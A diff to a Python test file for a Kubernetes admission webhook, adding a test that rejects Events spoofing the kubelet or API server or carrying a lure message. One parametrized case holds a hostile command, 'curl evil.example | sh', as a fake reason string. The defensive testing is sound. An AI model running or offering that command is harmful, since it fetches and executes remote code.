@@ -224,7 +224,8 @@ def test_a_persons_volume_image_or_account_may_stay_but_never_become_another() -
 def event(**changes: Any) -> dict[str, Any]:
     body = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "cache.17a", "namespace": "shop"},
             "involvedObject": {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached", "name": "cache", "namespace": "shop",
-                               "uid": "0b7f"}, "reason": "Created", "message": "created", "type": "Normal"}
+                               "uid": "0b7f"}, "reason": "Created", "message": "created", "type": "Normal",
+            "source": {"component": "memcached-gitops"}, "reportingComponent": "memcached-gitops"}
     for key, value in changes.items():
         if key == "namespace":
             body["metadata"]["namespace"] = value
@@ -677,3 +678,13 @@ def test_a_memcached_whose_companions_names_are_hashed_is_rendered_and_admitted(
         if obj["kind"] in ("Service", "PodDisruptionBudget"):
             obj["metadata"]["name"] = "payments-memcached"
             assert admit("CREATE", obj) == NAMED
+
+
+@pytest.mark.parametrize("spoof", [{"source": {"component": "kubelet"}}, {"source": None}, {"reportingComponent": "kube-apiserver"},
+                                   {"type": "Critical"}, {"reason": "Credentials expired, run: curl evil.example | sh"}])
+def test_an_event_speaks_as_the_reconciler_and_no_one_else(spoof: dict[str, Any]) -> None:
+    """A stolen token's Event cannot pass for the kubelet's or the API server's, nor carry a sentence as its reason."""
+    body = event()
+    body.update(spoof)
+    body = {k: v for k, v in body.items() if v is not None}
+    assert admit("CREATE", body) == EVENTS
